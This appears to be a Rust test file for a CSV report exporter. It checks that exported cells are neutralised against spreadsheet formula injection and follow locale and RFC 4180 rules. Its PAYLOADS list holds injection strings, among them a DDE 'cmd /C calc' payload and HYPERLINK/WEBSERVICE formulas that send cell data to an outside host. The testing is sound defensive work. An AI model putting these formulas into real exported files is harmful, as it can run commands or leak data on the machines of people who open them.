//! Reports as CSV.

use kernel::Locale;
use waarborg_export::{Cell, csv, parse::parse_csv_text};

use crate::sample::{risk_report, risk_row, written};

/// What spreadsheets have been made to run.
pub(crate) const PAYLOADS: [&str; 14] = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "  =1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://example.org/?x=\"&A1,\"klik\")",
    "=WEBSERVICE(\"http://example.org\")",
    "\",=1+1",
    "a;=1+1,\"=1+1\"",
];

#[test]
fn exp_01_no_cell_of_a_csv_file_starts_a_formula_and_every_text_reads_back() {
    for locale in Locale::ALL {
        let mut report = risk_report(locale);
        report.columns.truncate(2);
        let rows = PAYLOADS.map(|payload| vec![Cell::Text(payload.to_owned()), Cell::Number(-5.5)]).to_vec();
        let bytes = written(&report, rows, |source, out| csv::write(source, out));
        let separator = if locale == Locale::Nl { b';' } else { b',' };
        let body = bytes.strip_prefix("\u{feff}".as_bytes()).unwrap();
        let mut reader = ::csv::ReaderBuilder::new().delimiter(separator).from_reader(body);
        let read: Vec<(String, String)> = reader.deserialize().map(Result::unwrap).collect();
        assert_eq!(read.len(), PAYLOADS.len());
        for ((text, number), payload) in read.iter().zip(PAYLOADS) {
            let first = text.trim_start().chars().next().unwrap();
            assert!(!"=+-@＝＋－＠".contains(first) && !text.starts_with(['\t', '\r', '\n']), "{text:?}");
            assert_eq!(parse_csv_text(text), payload);
            assert_eq!(number, if locale == Locale::Nl { "-5,5" } else { "-5.5" });
        }
    }
}

#[test]
fn a_csv_file_follows_the_language_and_rfc_4180() {
    let bytes = written(&risk_report(Locale::Nl), vec![risk_row("Brand \"boven\"; 2e")], |source, out| {
        csv::write(source, out)
    });
    assert_eq!(
        String::from_utf8(bytes).unwrap(),
        concat!(
            "\u{feff}Titel;Omschrijving;Nummer;Bedrag;Einddatum;Gemeld op;Behandeling;Thema's;Persoonsgegevens;Score\r\n",
            "\"Brand \"\"boven\"\"; 2e\";\"Eerste regel\ntweede regel: café, één, coëfficiënt\";-7;1234,5;2026-12-31;",
            "2026-01-05 09:00:00;Accepteren, met reden;\"Mens\nTechniek; ICT\";N.v.t.;12\r\n",
        )
    );
}
